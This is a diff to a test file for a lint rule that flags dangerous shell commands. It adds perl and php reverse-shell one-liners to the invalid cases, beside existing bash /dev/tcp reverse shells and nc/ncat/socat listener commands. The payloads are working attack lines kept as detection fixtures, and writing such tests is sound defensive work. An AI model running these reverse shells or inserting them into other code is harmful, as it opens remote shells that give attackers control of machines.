@@ -14,11 +14,21 @@ testShellRule(rule, {
     'nc host 25 < mail.txt | tee log',
     'echo "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"',
     'ncat --ssl example.com 443',
+    `python3 -c 'import subprocess; subprocess.run(["sh", "build.sh"])'`,
+    `perl -e 'system("sh -c \\"make all\\"")'`,
     'while true; do nc -l -p 1500 -c \'echo -e "HTTP/1.1 200 OK\n\n $(date)"\'; done',
     'ncat -l 8080 --exec /usr/bin/cat',
     'socat TCP-LISTEN:8080,fork EXEC:./serve-static',
   ],
   invalid: [
+    {
+      code: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i")'`,
+      errors: [{ messageId: 'interpreterShell' }],
+    },
+    {
+      code: `php -r '$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh <&3 >&3 2>&3");'`,
+      errors: [{ messageId: 'interpreterShell' }],
+    },
     {
       code: 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
       errors: [{ messageId: 'socketRedirect', line: 1, column: 9, severity: 'error' }],
